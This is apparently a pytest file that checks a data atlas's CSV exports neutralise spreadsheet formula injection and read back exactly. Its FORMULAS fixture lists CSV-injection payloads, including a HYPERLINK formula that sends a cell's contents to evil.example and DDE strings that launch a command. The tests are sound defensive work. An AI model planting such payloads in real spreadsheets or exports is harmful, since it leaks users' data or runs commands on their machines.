"""Every CSV the atlas writes shows formula-looking text as text (the OWASP rule), and its own
data files read back exactly what was written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from atlas.cards import projects_table
from atlas.cli import main
from atlas.dataset import read_dataset, sorted_table, write_dataset
from atlas.exports import filtered_sites, sites_csv
from atlas.formulas import FORMULA_START, inert, inert_csv, restore
from atlas.model import TABLES_BY_NAME
from atlas.paths import REPO_ROOT
from atlas.project_detail import list_exports
from atlas.query import Filters
from atlas.snapshot import build_snapshot
from atlas.store import SqlStore, sqlite_url

# What a partner's file or an editor could put in a name ("=" itself is refused by the text rule,
# but a store written before that rule, or by hand, may hold it).
FORMULAS = [
    '+HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
]
ORDINARY = ["plain", "it's fine", "'quoted'", "a-b", "", "+", "-"]


@pytest.mark.parametrize("value", FORMULAS + ORDINARY)
def test_restore_undoes_inert(value: str) -> None:
    assert restore(inert(value)) == value  # type: ignore[arg-type]


@pytest.mark.parametrize("value", FORMULAS)
def test_inert_text_does_not_start_a_formula(value: str) -> None:
    assert not str(inert(value)).startswith(FORMULA_START)


def test_numbers_stay_numbers() -> None:
    assert inert(-5) == -5
    assert inert(-5.5) == -5.5


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str, what: str) -> None:
    live = [c for c in _cells(text) if c.startswith(FORMULA_START)]
    # A negative number is a number, not a formula; everything else must be quoted.
    live = [c for c in live if not _is_number(c)]
    assert not live, f"{what} holds live formulas: {live[:3]}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose names, summaries and site names all start like formulas."""
    data, problems = read_dataset(REPO_ROOT / "geodata")
    assert problems == []
    for table, columns in {"projects": ["title_en", "summary_en", "contract_number"],
                           "organizations": ["name_en", "acronym"],
                           "sites": ["name_en"]}.items():
        frame = data[table].copy()
        for i, column in enumerate(columns):
            frame[column] = [f"{FORMULAS[(i + n) % len(FORMULAS)]} {n}"
                             for n in range(len(frame))]
        data[table] = frame
    path = tmp_path_factory.mktemp("formulas") / "atlas.sqlite"
    SqlStore(sqlite_url(path)).replace_all(data, reason="formula test")
    return path


def test_view_downloads_are_inert(formula_store: Path) -> None:
    store = SqlStore(sqlite_url(formula_store))
    snap = build_snapshot(store.load(), store.data_version())
    ids = list(snap.table("projects")["project_id"])
    table = projects_table(snap, ids, "en")
    assert any(str(v).startswith("+HYPERLINK") for v in table.to_numpy().ravel())
    _assert_inert(inert_csv(table), "the map page's projects CSV")
    _assert_inert(sites_csv(filtered_sites(snap, Filters(), "en")), "the sites CSV")
    _assert_inert(list_exports(snap, Filters(), ids, "en").projects_csv, "the Projects page's CSV")


def test_atlas_export_csv_is_inert(formula_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "sites.csv"
    assert main(["--store", str(formula_store), "export", "--format", "csv",
                 "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert "HYPERLINK" in text
    _assert_inert(text, "atlas export --format csv")


def test_data_files_are_inert_and_read_back_exactly(formula_store: Path, tmp_path: Path) -> None:
    data = SqlStore(sqlite_url(formula_store)).load()
    for path in write_dataset(data, tmp_path):
        _assert_inert(path.read_text(encoding="utf-8"), path.name)
    again, problems = read_dataset(tmp_path)
    assert problems == []
    for table in ("projects", "organizations", "sites"):
        pd.testing.assert_frame_equal(sorted_table(TABLES_BY_NAME[table], again[table]),
                                      sorted_table(TABLES_BY_NAME[table], data[table]))
